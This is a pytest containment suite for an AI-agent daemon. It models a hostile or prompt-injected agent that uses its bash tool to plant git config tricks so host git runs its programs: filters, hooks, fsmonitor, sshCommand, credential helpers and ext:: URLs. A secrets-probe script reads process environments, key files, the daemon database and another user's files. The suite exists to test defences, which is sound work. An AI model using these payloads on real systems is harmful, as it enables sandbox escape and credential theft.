"""Containment of git and secrets (issue 18, "Must show"), against a real ``agentd serve``.

Every attack is what a hostile agent (or a prompt-injected one) can do with its bash tool: write
``.git/config`` keys, includes, attributes, hooks and submodules that make any git honouring
them run a program. The programs would leave marker files in directories outside the workspace
(the test's temp dir, the daemon's data dir); the sandbox cannot see those, so a marker on the
host means git ran workspace-chosen code on the host. Each attack then finishes and the daemon
delivers (commit, push with the attacker's own GitHub token over smart HTTP).

What must hold, whatever the implementation: no marker on the host; every task ends (succeeded,
or failed with a reason); what reached the task's remote is the project and the workspace's own
files, nothing of the data dir or of another task; no push reaches another remote; the daemon's
API key, OAuth client secret, Fernet keys (environment and key file), the user's GitHub token and
another user's files appear in no event, conversation, task row or pushed object.

One daemon runs every attack at once (``Campaign``, tests/containment_support.py): the module
fixture does the work, each test judges one outcome.
"""

from __future__ import annotations

import pytest

from .agent_env import BUGGY_PROJECT
from .containment_support import (
    ARMED,
    Attack,
    Campaign,
    as_text,
    every_object,
    found_secrets,
    markers,
    outside_paths,
    refs,
    repo_state,
    tree,
)

pytestmark = [pytest.mark.slow, pytest.mark.timeout(900)]

HOOKS = (
    "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit "
    "prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push "
    "pre-receive update proc-receive post-receive post-update reference-transaction "
    "push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman "
    "post-index-change"
)

ATTACKS = [
    Attack("benign", "fix\n"),  # the control: a plain fix must still be delivered
    Attack(
        "filter_clean",
        r"""
cfg filter.evil.clean "$(mk filter-clean pass)"
cfg filter.evil.smudge "$(mk filter-smudge pass)"
echo '* filter=evil' > .gitattributes
fix
""",
        creates=(".gitattributes",),
    ),
    Attack(
        "filter_process",
        r"""
cfg filter.proc.process "$(mk filter-process)"
mkdir -p .git/info && echo '*.py filter=proc' > .git/info/attributes
cfg core.attributesFile "$W/.git/more-attributes"
echo '*.md filter=attrfile' > .git/more-attributes
cfg filter.attrfile.clean "$(mk attributesfile-filter-clean pass)"
fix; echo 'More.' >> README.md
""",
    ),
    Attack(
        "fsmonitor",
        r"""
cfg core.fsmonitor "$(mk core-fsmonitor)"
cfg core.fsmonitorHookVersion 2
cfg core.untrackedCache true
fix; echo new > new-file.txt
""",
        creates=("new-file.txt",),
    ),
    Attack(
        "hooks",
        f"""
for h in {HOOKS}; do cp "$(mk hook-$h)" ".git/hooks/$h"; done
fix
""",
    ),
    Attack(
        "hooks_path",
        f"""
mkdir -p .git/myhooks
for h in {HOOKS}; do cp "$(mk hookspath-$h)" ".git/myhooks/$h"; done
cfg core.hooksPath "$W/.git/myhooks"
fix
""",
    ),
    Attack(
        "include",
        r"""
{
  echo '[filter "inc"]'; echo "  clean = $(mk include-filter-clean pass)"
  echo '[core]'; echo "  fsmonitor = $(mk include-fsmonitor)"; echo "  hooksPath = $W/.git/inc-hooks"
  echo "  pager = $(mk include-pager)"
} > .git/evil.inc
mkdir -p .git/inc-hooks
for h in post-commit pre-push reference-transaction post-index-change; do
  cp "$(mk include-hook-$h)" ".git/inc-hooks/$h"
done
printf '[filter "inc2"]\n  clean = %s\n' "$(mk include-abs-filter-clean pass)" > .git/evil2.inc
cfg include.path evil.inc
cfg --add include.path "$W/.git/evil2.inc"
printf '*.py filter=inc\n*.md filter=inc2\n' > .gitattributes
fix; echo 'More.' >> README.md
""",
        creates=(".gitattributes",),
    ),
    Attack(
        "include_if",
        r"""
for kind in gitdir gitdiri onbranch hasconfig; do
  clean=$(mk includeif-$kind-filter-clean pass)
  printf '[filter "if%s"]\n  clean = %s\n' "$kind" "$clean" > ".git/if-$kind.inc"
done
cfg "includeIf.gitdir:/.path" "$W/.git/if-gitdir.inc"
cfg "includeIf.gitdir/i:**.path" "$W/.git/if-gitdiri.inc"
cfg "includeIf.onbranch:**.path" "$W/.git/if-onbranch.inc"
cfg "includeIf.hasconfig:remote.*.url:**.path" "$W/.git/if-hasconfig.inc"
printf '%s filter=%s\n' calc.py ifgitdir test_calc.py ifgitdiri README.md ifonbranch \
  notes.txt ifhasconfig > .gitattributes
fix; echo '# checked' >> test_calc.py; echo 'More.' >> README.md; echo notes > notes.txt
""",
        creates=(".gitattributes", "notes.txt"),
    ),
    Attack(
        "ssh_command",
        r"""
cfg "url.ssh://agentd-evil@127.0.0.1:1/evil.git.insteadOf" "@OWN_URL@"
cfg "url.ssh://agentd-evil@127.0.0.1:1/evil.git.pushInsteadOf" "@OWN_URL@"
cfg core.sshCommand "$(mk core-ssh-command)"
cfg ssh.variant ssh
fix
""",
    ),
    Attack(
        "git_proxy",
        r"""
cfg "url.git://127.0.0.1:1/evil.git.insteadOf" "@OWN_URL@"
cfg "url.git://127.0.0.1:1/evil.git.pushInsteadOf" "@OWN_URL@"
cfg core.gitProxy "$(mk core-git-proxy)"
cfg protocol.git.allow always
fix
""",
    ),
    Attack(
        "protocol_allow",
        r"""
cfg protocol.allow always
cfg protocol.ext.allow always
cfg protocol.fd.allow always
cfg "url.ext::$(mk protocol-ext-insteadof) %S.insteadOf" "@OWN_URL@"
cfg "url.ext::$(mk protocol-ext-pushinsteadof) %S.pushInsteadOf" "@OWN_URL@"
cfg remote.origin.url "ext::$(mk protocol-ext-origin) %S"
fix
""",
    ),
    Attack(
        "credential_helper",
        r"""
cfg credential.helper "!$(mk credential-helper-shell)"
cfg --add credential.helper "$(mk credential-helper-path)"
cfg "credential.@OWN_URL@.helper" "$(mk credential-url-helper)"
cfg credential.useHttpPath true
cfg core.askPass "$(mk core-askpass)"
fix
""",
    ),
    Attack(
        "insteadof_decoy",
        r"""
cfg "url.@DECOY_URL@.insteadOf" "@OWN_URL@"
cfg "url.@DECOY_PATH@.pushInsteadOf" "@OWN_URL@"
fix
""",
    ),
    Attack(
        "http_proxy",
        r"""
cfg http.proxy "@DECOY_BASE@"
cfg "http.@OWN_URL@.proxy" "@DECOY_BASE@"
cfg remote.origin.proxy "@DECOY_BASE@"
fix
""",
    ),
    Attack(
        "remote_config",
        r"""
cfg remote.origin.url "@DECOY_URL@"
cfg remote.origin.pushurl "@DECOY_PATH@"
cfg --add remote.origin.pushurl "@DECOY_URL@"
cfg remote.origin.receivepack "$(mk remote-origin-receivepack)"
cfg remote.origin.uploadpack "$(mk remote-origin-uploadpack)"
cfg remote.origin.mirror true
cfg remote.pushDefault origin
cfg "remote.@OWN_URL@.pushurl" "@DECOY_PATH@"
cfg "remote.@OWN_URL@.receivepack" "$(mk remote-url-receivepack)"
fix
""",
    ),
    Attack(
        "diff_pager_editor",
        r"""
cfg diff.external "$(mk diff-external)"
cfg diff.evil.command "$(mk diff-driver-command)"
cfg diff.conv.textconv "$(mk diff-textconv pass)"
cfg core.pager "$(mk core-pager)"
for p in diff status log show commit; do cfg "pager.$p" "$(mk pager-$p)"; done
cfg core.editor "$(mk core-editor)"
cfg sequence.editor "$(mk sequence-editor)"
cfg merge.evil.driver "$(mk merge-driver)"
cfg interactive.diffFilter "$(mk interactive-diff-filter)"
printf '*.py diff=evil merge=evil\n*.md diff=conv\n' > .gitattributes
fix; echo 'More.' >> README.md
""",
        creates=(".gitattributes",),
    ),
    Attack(
        "gpg_signing",
        r"""
cfg gpg.program "$(mk gpg-program)"
cfg gpg.ssh.program "$(mk gpg-ssh-program)"
cfg gpg.x509.program "$(mk gpg-x509-program)"
cfg gpg.ssh.defaultKeyCommand "$(mk gpg-ssh-default-key-command)"
cfg user.signingKey agentd-evil
cfg commit.gpgSign true
cfg tag.gpgSign true
cfg push.gpgSign if-asked
fix
""",
    ),
    Attack(
        "upload_pack_alternates",
        r"""
cfg uploadpack.packObjectsHook "$(mk uploadpack-packobjectshook)"
cfg uploadpack.allowAnySHA1InWant true
cfg core.alternateRefsCommand "$(mk core-alternate-refs-command)"
mkdir -p .git/objects/info && echo "@DECOY_PATH@/objects" >> .git/objects/info/alternates
fix
""",
    ),
    # core.worktree at the data dir: a host git would commit agentd.db, secret.key and the
    # other tasks' workspaces (half-made clones excluded: `git add` refuses them). Whatever a
    # sandboxed git can see there (only the workspace's own mount point) is fair game, hence
    # "workspaces/<its task id>".
    Attack(
        "core_worktree",
        r"""
cfg core.worktree "@DATA@"
mkdir -p .git/info && printf '.staging-*\n' >> .git/info/exclude
fix
""",
        creates=("workspaces/{task}", "workspaces/{task}/*"),
    ),
    # A nested repository registered as a submodule: its own config has a clean filter, and a
    # tracked file whose mtime changed makes any `git status` that looks into it hash it.
    # (`update = !cmd` goes in .git/config: git itself refuses it in .gitmodules, and dies.)
    Attack(
        "submodule",
        r"""
g init -q sub
(
  cd sub
  echo hello > tracked.txt
  g add tracked.txt
  g -c user.name=x -c user.email=x@example.invalid commit -qm sub
  git config --file .git/config filter.subevil.clean "$(mk submodule-filter-clean pass)"
  git config --file .git/config core.fsmonitor "$(mk submodule-fsmonitor)"
  mkdir -p .git/info && echo '* filter=subevil' > .git/info/attributes
  touch -d '2001-01-01 00:00:00' tracked.txt
)
git config --file .gitmodules submodule.sub.path sub
git config --file .gitmodules submodule.sub.url "@DECOY_PATH@"
cfg submodule.sub.url "@DECOY_PATH@"
cfg submodule.sub.update "!$(mk submodule-update)"
cfg submodule.sub.active true
cfg submodule.recurse true
cfg status.submoduleSummary true
cfg diff.submodule log
g add sub .gitmodules
fix
""",
        creates=("sub", ".gitmodules"),
    ),
    # What the brief's agent runs to find secrets, and a clean filter that appends whatever it
    # can read (environment, key file, another user's files) to a committed file.
    Attack(
        "secrets_probe",
        r"""
echo '--- env'; env
echo '--- environ'; tr '\0' '\n' < /proc/self/environ; echo
echo '--- every environ'
for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f" 2>/dev/null || true; echo; done
echo '--- git config'; g config -l --show-origin || true
echo '--- find'; find / -name secret.key 2>/dev/null || true
echo '--- read'
for f in "@DATA@/secret.key" ../../secret.key "@DATA@/agentd.db" "@DATA@"/workspaces/*/victim-notes.txt; do
  head -c 3000 "$f" 2>&1 || true
done
leak="$W/.git/x/leak"; mkdir -p "$W/.git/x"
{
  echo '#!/bin/sh'; echo 'cat; echo; env; tr "\0" "\n" < /proc/self/environ'
  echo 'cat "@DATA@/secret.key" "@DATA@"/workspaces/*/victim-notes.txt 2>/dev/null; exit 0'
} > "$leak"
chmod 755 "$leak"
cfg filter.leak.clean "$leak"
echo 'leak.txt filter=leak' > .gitattributes
echo 'what the filter saw:' > leak.txt
fix
echo PROBE-DONE
""",
        creates=(".gitattributes", "leak.txt"),
    ),
]

PROJECT = sorted([*BUGGY_PROJECT, "attack.sh"])
# Names that exist only in the data dir: never a path in a pushed tree.
DATA_DIR_NAMES = (
    "agentd.db",
    "agentd.db-wal",
    "agentd.db-shm",
    "secret.key",
    "agentd.lock",
    "script.json",
    "victim-notes.txt",
    "host-markers",
)


@pytest.fixture(scope="module")
def campaign(tmp_path_factory) -> Campaign:
    run = Campaign(tmp_path_factory.mktemp("containment"), ATTACKS)
    run.run()
    return run


def _pushed_branches(outcome) -> dict[str, str]:
    return {ref: oid for ref, oid in refs(outcome.remote).items() if ref != "refs/heads/main"}


@pytest.mark.parametrize("name", [a.name for a in ATTACKS])
def test_the_attack_runs_nothing_on_the_host_and_pushes_only_the_workspace(campaign, name):
    outcome = campaign.outcomes[name]
    task = outcome.task
    # The attack really armed the workspace (else this test would prove nothing).
    assert ARMED in outcome.transcript(), f"the attack did not run to its end:\n{outcome.transcript()}"

    # Nothing of it ran on the host.
    ran = markers(campaign.marks, f"{name}.")
    assert not ran, (
        f"programs chosen by the workspace ran on the host: {_names(ran)} as "
        f"{sorted(set(ran.values()))}; the task ended {task['status']}: {task['error']}"
    )

    # The task ended, with a reason when it failed.
    assert task["status"] in ("succeeded", "failed"), task
    if task["status"] == "failed":
        assert task["error"], task

    # The remote holds its main branch as it was and at most this task's branch, whose tree is
    # the project plus what the agent wrote in its workspace.
    branches = _pushed_branches(outcome)
    own = {f"refs/heads/{task['branch']}"} if task["branch"] else set()
    assert set(branches) <= own, f"branches {sorted(branches)}; the task pushed {own or 'nothing'}"
    allowed = [*PROJECT, *(glob.format(task=task["id"]) for glob in outcome.attack.creates)]
    for ref in branches:
        paths = [path for _mode, path in tree(outcome.remote, ref)]
        foreign = [p for p in paths if set(p.split("/")) & set(DATA_DIR_NAMES)]
        assert not foreign, f"{ref} holds files of the daemon's data dir: {foreign}"
        outside = outside_paths(paths, allowed)
        assert not outside, f"{ref} holds paths that are not the workspace's: {outside}"
    assert b"SQLite format 3\0" not in every_object(outcome.remote), "a database was pushed"


def test_the_control_task_is_delivered(campaign):
    """Without it, "nothing was pushed" would pass every test above."""
    outcome = campaign.outcomes["benign"]
    assert outcome.task["status"] == "succeeded", outcome.task
    assert {e["event"] for e in outcome.events} >= {"git.pushed", "task.finished"}
    assert outcome.task["branch"] and outcome.task["diff"]["files"] == ["calc.py"]


def test_no_marker_anywhere_on_the_host(campaign):
    assert not (ran := markers(campaign.marks)), f"ran on the host: {_names(ran)}"


def _names(found: dict[str, str]) -> list[str]:
    return sorted({path.rsplit("/", 1)[-1] for path in found})


def test_pushes_reach_only_the_task_own_remote(campaign):
    assert campaign.decoy_requests == [], "the decoy server was contacted"
    assert repo_state(campaign.decoy_path) == campaign.decoy_before, "the decoy repository changed"
    for name, outcome in campaign.outcomes.items():
        assert refs(outcome.remote)["refs/heads/main"] == outcome.main, f"{name}: main was changed"
        others = {
            f"refs/heads/{o.task['branch']}"
            for o in campaign.outcomes.values()
            if o is not outcome and o.task.get("branch")
        }
        assert not set(_pushed_branches(outcome)) & others, f"{name}'s remote got another task's branch"


def test_no_secret_nor_another_user_file_in_any_event_conversation_task_or_pushed_object(campaign):
    named = campaign.secrets.named()
    leaks = {}
    for name, outcome in campaign.outcomes.items():
        for where, blob in (
            ("events", as_text(outcome.events)),
            ("conversation", as_text(outcome.messages)),
            ("task", as_text(outcome.task)),
            ("pushed objects", every_object(outcome.remote)),
        ):
            if found := found_secrets(blob, named):
                leaks[f"{name} {where}"] = found
    decoy = found_secrets(every_object(campaign.decoy_path), named)
    assert not leaks and not decoy, leaks or decoy


def test_the_secret_probe_ran_and_saw_nothing(campaign):
    outcome = campaign.outcomes["secrets_probe"]
    output = outcome.transcript()
    assert "PROBE-DONE" in output and "--- git config" in output, output
    assert found_secrets(output, campaign.secrets.named()) == []


def test_the_daemon_stayed_up_and_stopped_cleanly(campaign):
    assert campaign.victim["status"] == "succeeded", campaign.victim
    assert campaign.daemon_exit == 0, campaign.daemon_log[-3000:]
